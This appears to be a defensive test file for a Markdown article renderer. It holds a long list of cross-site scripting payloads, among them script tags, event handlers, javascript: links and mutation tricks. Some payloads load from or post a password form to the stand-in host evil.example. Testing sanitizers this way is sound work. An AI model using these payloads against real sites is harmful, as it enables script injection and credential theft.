"""Whatever a writer pastes, nothing runs, posts, restyles or loads from elsewhere."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from articles.markdown import render, resolve_links

ADDRESS_SCHEMES = ("http:", "https:", "mailto:", "tel:", "article:", "#", "/", "?")
HARMLESS_TAGS = {
    "a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col",
    "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure",
    "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre",
    "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td",
    "tfoot", "th", "thead", "time", "tr", "u", "ul", "var", "video",
}  # fmt: skip

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img/src/onerror=alert(1)>",
    '<img src="attachment:abcdef12/x.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"https://x.example\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x.png"onerror="alert(1))',
    '![x" onerror="alert(1)](attachment:abcdef12/x.png)',
    '[x](https://x.example "\" onmouseover=\"alert(1)")',
    "# x {onclick=alert(1)}",
    "# x {: style=\"position:fixed\" onclick=\"alert(1)\"}",
    "![x](attachment:abcdef12/x.png){onerror=alert(1)}",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    "``` {.python onclick=alert(1)}\nx\n```",
    "!!! note \"<script>alert(1)</script>\"\n    x",
    "!!! note\" onclick=\"alert(1) \"t\"\n    x",
    "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
    "??? tip \"<img src=x onerror=alert(1)>\"\n    x",
    "=== \"<script>alert(1)</script>\"\n    x",
    "{% hint style=\"\\\"><script>alert(1)</script>\" %}x{% endhint %}",
    "{% embed url=\"javascript:alert(1)\" %}",
    "{% embed url=\"https://vimeo.com/1234567/\\\"onclick=alert(1)\" %}",
    "{% file src=\"javascript:alert(1)\" %}",
    "https://www.youtube.com/watch?v=\"onload=alert(1)",
    "<https://www.youtube.com/watch?v=abc'\"><script>alert(1)</script>>",
    "https://evil.example/videos/watch/\"><script>alert(1)</script>",
    "<https://vimeo.com@evil.example/123456>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: \"><script>alert(1)</script>\n\nHTML",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<table background=javascript:alert(1)><tr><td style=\"background:url(//evil)\">x</td></tr></table>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<a id=\"x\" name=\"y\" href=\"#\" target=\"_blank\" ping=\"//evil.example\">x</a>",
    "\x02wzxhzdk:0\x03 <script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "<a href=\"article:x\" onclick=alert(1)>x</a>",
    "<a href='article:\"><script>alert(1)</script>'>x</a>",
    "[x](article:a\"onclick=\"alert(1))",
    "<div class=\"callout\" data-video-src=\"javascript:alert(1)\">x</div>",
    "<figure class=\"video\" data-video-src=\"https://evil.example\"><a href=\"#\">x</a></figure>",
]  # fmt: skip


class Inspector(HTMLParser):
    """Collects what is wrong in a document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self._check(tag, name, (value or "").strip().lower())

    def _check(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in {"style", "srcdoc", "formaction", "ping", "action"}:
            self.faults.append(f"{tag} {name}")
        if name == "href" and value and not value.startswith(ADDRESS_SCHEMES):
            self.faults.append(f"{tag} href={value}")
        if name == "src" and not value.startswith("/attachments/"):
            self.faults.append(f"{tag} src={value}")
        if name == "data-video-src" and not value.startswith("https://"):
            self.faults.append(f"{tag} {name}={value}")


def faults_of(document: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(document)
    inspector.close()
    return inspector.faults


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "Words\n\n- item\n  {}\n", "> {}", "## {}\n\nwords {} end"]
)
def test_nothing_in_a_known_attack_survives(payload: str, frame: str) -> None:
    document = render(frame.replace("{}", payload), locale="fr", title="x").html
    assert faults_of(document) == []
    assert faults_of(resolve_links(document, lambda _: "/en/articles/x")) == []


@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", "    ", "> ", "- ", "x", "`", '"'])))
@settings(max_examples=60, deadline=None)
def test_attacks_in_any_order_stay_harmless(parts: list[str]) -> None:
    assert faults_of(render("".join(parts), locale="en").html) == []


@given(st.text(max_size=400))
@example("\ud800 lone surrogate")
@example("[" * 3_000)
@example(">" * 3_000)
@example("- " * 2_000)
@example("    " * 500 + "x")
@example("*" * 3_000)
@example("`" * 3_001)
@example("<div>" * 800)
@example("| a " * 500 + "|\n" + "|-" * 500 + "|\n")
@example("!!! note\n" * 200)
@example("".join(f"{'  ' * depth}- x\n" for depth in range(150)))
@settings(max_examples=150, deadline=None)
def test_no_text_makes_rendering_fail(text: str) -> None:
    render(text, locale="fr", title=text[:20])


MARKUP = st.lists(
    st.sampled_from(
        ["# ", "## ", "- ", "1. ", "> ", ">[!NOTE]\n", "```\n", "~~~", "    ", "\n", "\n\n", "| a |",
         "|---|", "a", "{% hint %}", "{% endhint %}", "{% tabs %}", '{% tab title="t" %}', "<details>",
         "<summary>s</summary>", "</details>", "!!! tip\n", '=== "x"\n', "[^1]", "[^1]: ", "](x)",
         "[ ] ", "![", "[", "{#id}", "<b>", "</b>", "&amp;", "\\", "https://youtu.be/abcdefgh", "\t"]
    )
)  # fmt: skip


@given(MARKUP)
@settings(max_examples=200, deadline=None)
def test_no_mixture_of_markup_makes_rendering_fail_or_unsafe(parts: list[str]) -> None:
    assert faults_of(render("".join(parts), locale="fr").html) == []


def test_an_image_of_another_site_becomes_a_link() -> None:
    made = render("![A plan](https://elsewhere.example/plan.png)", locale="en").html
    assert '<a class="external" href="https://elsewhere.example/plan.png"' in made
    assert "<img" not in made


def test_a_placeholder_that_looks_like_a_tag_is_shown() -> None:
    assert "ssh &lt;cluster&gt;" in render("Type ssh <cluster> now", locale="en").html


@pytest.mark.parametrize("text", ["[" * 50_000, "![a" * 20_000, "<a " * 20_000, "`" * 50_001])
def test_brackets_left_open_do_not_stop_the_site(text: str) -> None:
    started = time.process_time()
    render(text, locale="en")
    assert time.process_time() - started < 5
